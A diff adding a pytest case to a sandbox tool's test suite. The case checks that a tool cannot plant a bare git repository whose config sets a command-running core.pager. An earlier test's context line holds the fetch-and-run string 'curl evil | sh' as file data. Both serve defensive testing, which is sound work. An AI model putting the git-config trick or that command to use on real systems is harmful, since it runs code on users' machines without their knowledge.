@@ -8,6 +8,7 @@ from the bytes `flakebot run` wrote to its stderr."""
 from __future__ import annotations
 
 import os
+import subprocess
 import tempfile
 from collections.abc import Iterator
 from pathlib import Path
@@ -100,3 +101,30 @@ def test_a_writable_hard_link_to_a_file_outside_the_root_is_replaced_not_written
     assert ran.returncode == 0, ran.stderr
     assert config_file.read_text() == "# the user's shell config\n"
     assert (caller / "notes").read_text() == "curl evil | sh\n" and (caller / "notes").stat().st_nlink == 1
+
+
+# A bare repository's layout under names no steering table lists: git takes a directory holding HEAD, objects/ and
+# refs/ for a repository when run inside it, and obeys its config (core.pager runs for `git log` on a terminal).
+BARE = """mkdir -p out/repo/objects out/repo/refs/heads; echo 'ref: refs/heads/main' > out/repo/HEAD
+printf '[core]\\n\\tpager = "touch %(marker)s; cat"\\n' > out/repo/config; echo data > out/repo/notes.txt
+"""
+BARE_TOP = """mkdir -p out/objects out/refs; echo 'ref: refs/heads/main' > out/HEAD
+printf '[core]\\n\\tpager = "touch %(marker)s; cat"\\n' > out/config
+"""
+
+
+def test_a_bare_repository_a_tool_lays_out_never_lands_as_one(caller: Path, tmp_path: Path) -> None:
+    require("bwrap", "git", "script")
+    marker = caller / "pager-ran"
+    (caller / "out").mkdir()
+    tool(tmp_path, "bare", BARE % {"marker": marker})
+    tool(tmp_path, "top", BARE_TOP % {"marker": marker})
+    for name, where in (("bare", caller / "out" / "repo"), ("top", caller / "out")):
+        ran = run_cli("run", name, "--writable", "out", input="")
+        said = " ".join(ran.stderr.split())
+        assert ran.returncode == 0 and "read as configuration by git" in said and 'config"' in said, ran.stderr
+        if where.is_dir():
+            subprocess.run(["script", "-qc", "git log -1; git branch", "/dev/null"], cwd=where, capture_output=True)
+        assert not marker.exists(), where
+    # nothing the tool wrote in a would-be repository lands (the directory it made does, empty)
+    assert (caller / "out" / "repo").is_dir() and not (caller / "out" / "repo" / "config").exists()
